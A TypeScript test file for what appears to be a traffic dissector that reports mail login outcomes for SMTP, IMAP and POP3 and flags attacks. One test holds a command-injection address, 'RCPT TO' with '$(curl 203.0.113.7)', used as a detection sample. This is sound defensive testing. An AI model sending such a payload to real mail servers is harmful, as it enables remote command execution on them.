import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deedsIn, single } from '../../test/service-talk.ts'
import type { Said } from '../../test/wire.ts'
import { starttls } from './dissectors/starttls.ts'

const smtp = (word: string): Said[] => [
  [1, '220 mx ESMTP\r\n'],
  [0, 'EHLO x\r\n'],
  [1, '250-mx\r\n250 AUTH LOGIN\r\n'],
  [0, 'AUTH LOGIN\r\n'],
  [1, '334 VXNlcm5hbWU6\r\n'],
  [0, 'Ym9i\r\n'],
  [1, `${word}\r\n`],
]
const deeds = (serverPort: number, said: readonly Said[]) => deedsIn(starttls, said, { serverPort })

test('SMTP, IMAP and POP3 tell how a login went, cut anywhere', () => {
  assert.deepEqual(deeds(587, smtp('535 5.7.8 Error')).logins, [['mail', [], 1, false]])
  assert.deepEqual(deeds(587, smtp('235 2.7.0 ok')).logins, [['mail', [], 0, true]])
  const imap: Said[] = [
    [1, '* OK Dovecot\r\n'],
    [0, 'a1 LOGIN bob x\r\n'],
    [1, 'a1 NO [AUTHENTICATIONFAILED]\r\n'],
    [0, 'a2 LOGIN bob y\r\n'],
    [1, 'a2 OK in\r\n'],
  ]
  assert.deepEqual(deeds(143, imap).logins, [['mail', ['bob'], 1, true]])
  assert.deepEqual(deeds(143, [imap[0]!, ...single(imap.slice(1))]).logins, [['mail', ['bob'], 1, true]])
  const pop: Said[] = [
    [1, '+OK ready\r\n'],
    [0, 'USER bob\r\n'],
    [1, '+OK\r\n'],
    [0, 'PASS x\r\n'],
    [1, '-ERR [AUTH] no\r\n'],
  ]
  assert.deepEqual(deeds(110, pop).logins, [['mail', ['bob'], 1, false]])
})

test('orders in the envelope are looked at, letters that quote them are not', () => {
  const hello: Said[] = [
    [1, '220 mx\r\n'],
    [0, 'EHLO x\r\n'],
  ]
  const evil = 'RCPT TO:<"a$(curl 203.0.113.7)"@mail.example>\r\n'
  assert.deepEqual(deeds(25, [...hello, [0, evil]]).exploits, [['smtp-shell-address', undefined]])
  assert.deepEqual(deeds(25, [...hello, [0, `MAIL FROM:<a@b>\r\nDATA\r\n${evil}`]]).exploits, [])
  assert.deepEqual(deeds(25, [...hello, [0, 'DATA\r\n'], [0, evil]]).exploits, [])
})

test('near miss: refusals of other things than passwords', () => {
  const talk: Said[] = [
    [1, '+OK ready\r\n'],
    [0, 'TOP 1\r\n'],
    [1, '-ERR no such message\r\n'],
  ]
  assert.deepEqual(deeds(110, talk).logins, [])
})
